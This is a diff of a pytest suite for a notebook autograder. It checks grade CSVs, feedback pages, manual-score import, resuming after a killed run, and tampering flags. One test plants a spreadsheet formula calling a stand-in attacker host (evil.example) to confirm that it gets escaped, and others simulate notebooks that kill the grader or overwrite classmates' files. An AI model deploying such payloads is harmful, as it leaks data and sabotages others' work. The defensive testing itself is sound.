@@ -3,6 +3,8 @@
 import csv
 import io
 import json
+import os
+import signal
 from pathlib import Path
 
 import pytest
@@ -13,7 +15,9 @@ from modlab.grading.intake import collect
 from modlab.grading.manual import ManualSheetError
 
 ALL = [f"q{i}-check" for i in range(1, 10)]
-HEADER = ["student", *[f"q{i}" for i in range(1, 10)], "r1", "r2", "auto total", "manual total", "total", "max", "flags"]
+HEADER = ["student", "lms_user_id", *[f"q{i}" for i in range(1, 10)], "r1", "r2", "auto total", "manual total", "total",
+          "max", "status", "flags", "lms_notes"]
+AWAITING, COMPLETE, NOT_GRADED = "awaiting hand grading", "complete", "not graded: see flags"
 ALICE_R1 = "The poll's voters <b>chose</b> themselves, so the margin of error does not apply."
 INTERNAL = ("the grader hit an internal problem (RuntimeError) on this notebook; it could not be graded "
             "automatically: please grade it by hand")
@@ -53,14 +57,14 @@ def test_grades_csv_is_exact_and_a_dying_worker_stops_nothing(graded):
     zeros = ["0"] * 9
     assert (out / "grades.csv").read_text() == _csv([
         HEADER,
-        ["alice", *["1"] * 9, "", "0", "9", "", "9", "16", ""],
-        ["bob", "1", "0", "1", *["0"] * 6, "0", "0", "2", "0", "2", "16", "cell 4 timed out after 60 s"],
-        ["carol", *zeros, "0", "0", "0", "0", "0", "16", batch.WORKER_DIED],
-        ["dora", *zeros, "0", "0", "0", "0", "0", "16", INTERNAL],
-        ["erin", *zeros, "0", "0", "0", "0", "0", "16",
-         "no notebook found; handed in: essay.pdf; no notebook for this lesson was found in the upload"],
+        ["alice", "", *["1"] * 9, "", "0", "9", "", "9", "16", AWAITING, "", ""],
+        ["bob", "", "1", "0", "1", *["0"] * 6, "0", "0", "2", "0", "2", "16", COMPLETE, "cell 4 timed out after 60 s", ""],
+        ["carol", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED, batch.WORKER_DIED, ""],
+        ["dora", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED, INTERNAL, ""],
+        ["erin", "", *zeros, "0", "0", "0", "0", "0", "16", NOT_GRADED,
+         "no notebook found; handed in: erin/essay.pdf; no notebook for this lesson was found in the upload", ""],
     ])
-    assert (summary.graded, summary.flagged) == (5, 4)
+    assert (summary.graded, len(summary.results), summary.flagged) == (4, 5, 4)  # erin: a row, nothing run
 
 
 def test_gradebook_holds_auto_and_manual_scores(graded):
@@ -90,11 +94,19 @@ def test_feedback_shows_results_kindly_and_never_tests_or_rubrics(graded):
     assert alice.count('<span aria-hidden="true">\u2714</span> Correct') == 9
     assert "Auto-checked exercises: <strong>9 of 9 points</strong>" in alice
     assert "Written answers: <strong>not graded yet</strong> (out of 7 points)" in alice
+    assert ("Overall: <strong>9 of 16 points</strong> so far: your written answers are not graded yet, so this is "
+            "not your final grade.") in alice
+    assert "Overall: <strong>2 of 16 points</strong>." in pages["bob"]  # blank answers: nothing left to grade
     assert "&lt;b&gt;chose&lt;/b&gt;" in alice and "<b>chose" not in alice  # student text is escaped
     assert "You left this answer blank, so it scores 0." in alice
     assert "<td>1 / 1</td>" in alice and '<td class="answer">0.724</td>' in alice
     bob = pages["bob"]
     assert bob.count("\u2718</span> Not yet correct") == 7 and "Not yet: check the units." in bob
+    # The kit's first hint for each question not right (as q.hint() gives it), never for a correct one.
+    hints = {q.grade_id: q.hint for q in lesson03_outline().questions}
+    assert all(hints.values()) and "Hint: " not in alice
+    for gid, hint in hints.items():
+        assert (f"Hint: {hint}".replace("'", "&#39;").replace('"', "&#34;") in bob) == (gid not in ("q1-check", "q3-check"))
     assert "Notes from the grader" in bob and "<li>cell 4 timed out after 60 s</li>" in bob
     assert "Notes from the grader" not in alice
     assert batch.WORKER_DIED.replace("'", "&#39;") in pages["carol"]
@@ -105,12 +117,14 @@ def test_manual_sheet_lists_every_free_response_beside_its_rubric(graded):
     rubrics = {r.grade_id: r.rubric for r in lesson03_outline().free_responses}
     with open(out / "manual_grading.csv", encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.DictReader(handle))
+    # Sorted by question, then student: one reflection graded across the class.
     assert [(r["student"], r["question"], r["points"], r["score"], r["comment"]) for r in rows] == [
         (s, q, p, "" if (s, q) == ("alice", "r1") else "0", "")
-        for s in ("alice", "bob", "carol", "dora", "erin") for q, p in (("r1", "3"), ("r2", "4"))
+        for q, p in (("r1", "3"), ("r2", "4")) for s in ("alice", "bob", "carol", "dora", "erin")
     ]
-    assert rows[0]["answer"] == ALICE_R1 and rows[0]["rubric"] == rubrics["r1"] and rows[0]["label"] == "Reflection 1"
-    assert all(r["rubric"] == rubrics[r["question"]] for r in rows)
+    assert rows[0]["answer"] == ALICE_R1 and rows[0]["rubric_and_model_answer"] == rubrics["r1"]
+    assert rows[0]["label"] == "Reflection 1"
+    assert all(r["rubric_and_model_answer"] == rubrics[r["question"]] for r in rows)
 
 
 def _fill(sheet: Path, target: Path, changes: dict) -> Path:
@@ -132,9 +146,9 @@ def test_manual_import_round_trip_and_rerun_keeps_unchanged_scores(tmp_path):
     filled = _fill(out / "manual_grading.csv", tmp_path / "filled.csv",
                    {("alice", "r1"): {"score": "2,5", "comment": "Good point about self-selection."}})
     summary = batch.import_manual(filled, out)
-    assert summary.notes == [f"imported 10 manual score(s) from {filled}"]  # alice r1 + the 9 blank answers' 0
+    assert summary.notes == [f"imported 1 hand score(s) from {filled}; 9 blank answer(s) were already 0"]
     alice_row = (out / "grades.csv").read_text().splitlines()[1]
-    assert alice_row == "alice,1,1,1,1,1,1,1,1,1,2.5,0,9,2.5,11.5,16,"
+    assert alice_row == "alice,,1,1,1,1,1,1,1,1,1,2.5,0,9,2.5,11.5,16,complete,,"
     page = (out / "feedback" / "alice.html").read_text()
     assert "Points: 2.5 / 3" in page and "Comment from your instructor: Good point about self-selection." in page
     assert "Written answers: <strong>2.5 of 7 points</strong>" in page
@@ -143,10 +157,11 @@ def test_manual_import_round_trip_and_rerun_keeps_unchanged_scores(tmp_path):
         comment = gb.find_comment("r1", "03_amnesty_poll", "03_amnesty_poll", "alice")
         assert (grade.manual_score, grade.score, comment.manual_comment) == (2.5, 2.5, "Good point about self-selection.")
 
-    # Same upload again: the hand-given score stays, nothing set aside (the sheet holds only imported values).
+    # Same upload again: nothing regraded (unchanged notebooks), the hand-given score stays, nothing set aside.
     again = _grade(tmp_path, upload, jobs=1)
-    assert again.notes == [f"{out} held an earlier run: regraded, and its outputs rewritten",
-                           "kept 1 manual score(s) from the earlier run (answers unchanged)"]
+    assert again.notes == [f"{out} held an earlier run: resumed and merged into it",
+                           "kept 4 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)"]
+    assert again.newly_graded == 0  # erin's row (no notebook) is simply written again
     assert (out / "grades.csv").read_text().splitlines()[1] == alice_row
     assert list(out.glob("manual_grading.unimported-*.csv")) == []
 
@@ -154,7 +169,8 @@ def test_manual_import_round_trip_and_rerun_keeps_unchanged_scores(tmp_path):
     write_fake(upload / "alice" / "03_amnesty_poll.ipynb", correct=ALL, text={"r1": "A new answer."})
     _grade(tmp_path, upload, jobs=1)
     assert (out / "grades.csv").read_text().splitlines()[1] == (
-        "alice,1,1,1,1,1,1,1,1,1,,0,9,,9,16,Reflection 1 changed since it was graded by hand: it needs grading again")
+        "alice,,1,1,1,1,1,1,1,1,1,,0,9,,9,16,awaiting hand grading,"
+        "Reflection 1 changed since it was graded by hand: it needs grading again,")
 
 
 def test_rerun_sets_aside_a_sheet_with_scores_not_imported(tmp_path):
@@ -166,7 +182,8 @@ def test_rerun_sets_aside_a_sheet_with_scores_not_imported(tmp_path):
     summary = _grade(tmp_path, upload, jobs=1)
     [aside] = out.glob("manual_grading.unimported-*.csv")
     assert aside.read_text() == work
-    assert summary.notes == [f"{out} held an earlier run: regraded, and its outputs rewritten",
+    assert summary.notes == [f"{out} held an earlier run: resumed and merged into it",
+                             "kept 4 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)",
                              f"manual_grading.csv had scores not yet imported: copied to {aside.name} "
                              "(import it with --import-manual)"]
 
@@ -221,3 +238,158 @@ def test_progress_bar_with_eta_goes_to_stderr(tmp_path, capsys):
     assert captured.out == ""
     final = captured.err.replace("\r", "\n").strip().splitlines()[-1]
     assert final.startswith("grading: 100%") and " 3/3 [" in final and "<00:00" in final  # elapsed<remaining
+
+
+KILLER = """
+import sys
+sys.path.insert(0, {tests!r})
+from grading_fakes import fake_grade, lesson03_outline
+from modlab.grading import batch
+from modlab.grading.intake import collect
+spec = lesson03_outline()
+batch.grade_batch(collect({upload!r}, spec.lesson, {work!r}), spec, {out!r}, jobs=1, grade=fake_grade, progress=False)
+"""
+
+
+def test_a_killed_grader_loses_nothing_and_a_rerun_resumes_and_flags_the_culprit(tmp_path):
+    import subprocess
+    import sys
+
+    upload, out = tmp_path / "upload", tmp_path / "out"
+    write_fake(upload / "alice.ipynb", correct=ALL)
+    write_fake(upload / "bob.ipynb", correct=["q1-check"], kill_grader=True)  # a notebook that kill -9s the grader
+    write_fake(upload / "carol.ipynb", correct=["q2-check"])
+    script = KILLER.format(tests=str(Path(__file__).parent), upload=str(upload), work=str(out / "work"), out=str(out))
+    # Its own session, no pipes: the pool's orphaned workers are ended with their group, and cannot hold us.
+    run = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                           start_new_session=True)
+    try:
+        assert run.wait(timeout=120) == -9
+    finally:
+        try:
+            os.killpg(run.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass
+    # alice was graded before bob's turn: her result is on disk, complete.
+    assert sorted(p.name for p in (out / "results").glob("*.json")) == ["alice.json"]
+    assert batch.load_results(out)[0].auto_score == 9
+
+    # The re-run keeps alice (unchanged), does not run bob again (he was graded alone when it stopped), grades carol.
+    summary = _grade(tmp_path, upload, jobs=2)
+    assert summary.newly_graded == 1
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert [(s, rows[s]["auto total"], rows[s]["status"], rows[s]["flags"]) for s in rows] == [
+        ("alice", "9", COMPLETE, ""), ("bob", "0", NOT_GRADED, batch.STOPPED_ALONE), ("carol", "1", COMPLETE, "")]
+    assert batch.STOPPED_ALONE.startswith("the previous run stopped while grading this notebook")
+    assert summary.notes[:2] == [f"{out} held an earlier run: resumed and merged into it",
+                                 "kept 1 result(s) of the earlier run whose notebook is unchanged (--regrade grades them again)"]
+
+    # A changed notebook is graded again; --regrade grades everyone (bob no longer kills: he is fixed).
+    write_fake(upload / "bob.ipynb", correct=["q1-check", "q2-check"])
+    again = _grade_with(tmp_path, upload, regrade=True)
+    assert again.newly_graded == 3
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert (rows["bob"]["auto total"], rows["bob"]["flags"]) == ("2", "")
+
+
+def _grade_with(tmp_path, upload, **options):
+    spec = lesson03_outline()
+    submissions = collect(upload, spec.lesson, tmp_path / "out" / "work")
+    return batch.grade_batch(submissions, spec, tmp_path / "out", jobs=1, grade=fake_grade, progress=False,
+                             source=upload, **options)
+
+
+def test_an_upload_with_some_students_merges_into_the_class_folder(tmp_path):
+    upload = _upload(tmp_path / "upload")
+    _grade(tmp_path, upload, jobs=2)
+    only_bob = tmp_path / "bob_only"
+    write_fake(only_bob / "bob" / "03_amnesty_poll.ipynb", correct=ALL)
+    summary = _grade(tmp_path, only_bob, jobs=1)
+    rows = {r["student"]: r["auto total"] for r in csv.DictReader(open(tmp_path / "out" / "grades.csv", encoding="utf-8"))}
+    assert rows == {"alice": "9", "bob": "9", "carol": "0", "dora": "0", "erin": "0"}
+    assert summary.notes[-1] == ("merged by student: kept 4 student(s) of earlier runs who are not in this upload "
+                                 "(alice, carol, dora, erin)")
+    assert sorted(p.stem for p in (tmp_path / "out" / "feedback").glob("*.html")) == ["alice", "bob", "carol", "dora", "erin"]
+
+
+def test_a_notebook_rewriting_others_copies_and_the_upload_changes_no_grade_and_is_flagged(tmp_path):
+    upload, out = tmp_path / "upload", tmp_path / "out"
+    sabotaged = json.dumps({"correct": []})
+    targets = [upload / "bob.ipynb", upload / "carol.ipynb", out / "work" / "submissions" / "bob.ipynb",
+               out / "work" / "submissions" / "carol.ipynb"]
+    write_fake(upload / "aaron.ipynb", correct=["q1-check"], overwrite={str(p): sabotaged for p in targets})
+    write_fake(upload / "bob.ipynb", correct=ALL)
+    write_fake(upload / "carol.ipynb", correct=ALL)
+    summary = _grade_with(tmp_path, upload)
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert {s: r["auto total"] for s, r in rows.items()} == {"aaron": "1", "bob": "9", "carol": "9"}  # honest grades
+    for student in ("bob", "carol"):
+        assert rows[student]["flags"] == "; ".join([
+            batch.COPY_CHANGED, batch.UPLOAD_CHANGED.format(files=f"{student}.ipynb")])
+    assert "the upload changed while grading: possible tampering (bob.ipynb)" in rows["bob"]["flags"]
+    assert rows["aaron"]["flags"] == ""
+    assert summary.flagged == 2 and "the upload changed while grading (2 file(s))" in summary.notes[-1]
+    # The working copies left in work/ are the honest ones again.
+    assert json.loads((out / "work" / "submissions" / "bob.ipynb").read_text())["correct"] == ALL
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped_and_ids_read_back(tmp_path):
+    upload = tmp_path / "upload"
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+    write_fake(upload / "-1+1" / "03_amnesty_poll.ipynb", correct=ALL, text={"r1": formula, "r2": "@SUM(1+1)"})
+    write_fake(upload / "lopezana_12345_67890_03_amnesty_poll.ipynb", correct=ALL)
+    write_fake(upload / "kimlee_LATE_23456_78901_03_amnesty_poll.ipynb", correct=[])
+    _grade(tmp_path, upload, jobs=1)
+    out = tmp_path / "out"
+    rows = list(csv.reader(open(out / "grades.csv", encoding="utf-8")))
+    assert [r[:2] for r in rows[1:]] == [["'-1_1", ""], ["kimlee", "23456"], ["lopezana", "12345"]]
+    # kimlee wrote nothing: blank answers score 0, so nothing is left to grade by hand.
+    assert rows[2][-3:] == ["complete", "", "the LMS marked this submission late (a note from the LMS; modlab grade "
+                                            "applied no penalty)"]
+    sheet = list(csv.DictReader(open(out / "manual_grading.csv", encoding="utf-8-sig")))
+    assert [(r["student"], r["question"], r["answer"]) for r in sheet[:1]] == [("'-1_1", "r1", "'" + formula)]
+    assert [r["answer"] for r in sheet if r["student"] == "'-1_1"] == ["'" + formula, "'@SUM(1+1)"]
+    filled = _fill(out / "manual_grading.csv", tmp_path / "filled.csv",
+                   {("'-1_1", "r1"): {"score": "2", "comment": "+ good"}, ("'-1_1", "r2"): {"score": "1"}})
+    summary = batch.import_manual(filled, out)
+    assert summary.notes[0].startswith("imported 2 hand score(s) from")
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv", encoding="utf-8"))}
+    assert (rows["'-1_1"]["total"], rows["'-1_1"]["status"]) == ("12", "complete")
+    assert "Comment from your instructor: + good" in (out / "feedback" / "-1_1.html").read_text()
+    page = (out / "feedback" / "kimlee.html").read_text()
+    assert "Notes from the course website" in page and "Notes from the grader" not in page
+
+
+def test_a_score_with_a_thousands_separator_is_refused(tmp_path):
+    _grade(tmp_path, _upload(tmp_path / "upload"), jobs=1)
+    sheet = tmp_path / "s.csv"
+    sheet.write_text("student,question,score,comment\nalice,r1,\"1,000\",\nbob,r1,\"2,5\",\n")
+    with pytest.raises(ManualSheetError) as caught:
+        batch.import_manual(sheet, tmp_path / "out")
+    assert caught.value.problems == [
+        "row 2: score '1,000' is not a number of points (a comma is read only as a decimal comma, as in 2,5)"]
+
+
+def test_a_copy_changed_while_being_graded_is_flagged(tmp_path):
+    upload = tmp_path / "upload"
+    write_fake(upload / "alice.ipynb", correct=ALL, rewrite_own_copy=True)
+    write_fake(upload / "bob.ipynb", correct=ALL)
+    summary = _grade_with(tmp_path, upload)
+    assert {r.student: r.flags for r in summary.results} == {"alice": [batch.COPY_CHANGED_WHILE], "bob": []}
+    assert batch.load_results(tmp_path / "out")[0].flags == [batch.COPY_CHANGED_WHILE]
+
+
+def test_notebooks_in_flight_beside_others_when_a_run_stopped_are_graded_again_alone(tmp_path):
+    upload, out = tmp_path / "upload", tmp_path / "out"
+    write_fake(upload / "alice.ipynb", correct=ALL)
+    write_fake(upload / "bob.ipynb", correct=["q1-check"])
+    _grade_with(tmp_path, upload)
+    # As a run with --jobs 2 leaves it when killed with bob and alice in flight (alice had finished).
+    (out / "work" / "inflight").mkdir(parents=True, exist_ok=True)
+    (out / "work" / "inflight" / "bob.json").write_text(json.dumps({"alone": False}))
+    summary = _grade_with(tmp_path, upload)
+    assert summary.newly_graded == 1
+    assert {r.student: (r.auto_score, r.flags) for r in summary.results} == {
+        "alice": (9, []), "bob": (1, [batch.STOPPED_AGAIN])}
+    assert batch.STOPPED_AGAIN == "the previous run stopped while grading this notebook; graded again, on its own"
+    assert not list((out / "work" / "inflight").glob("*.json"))
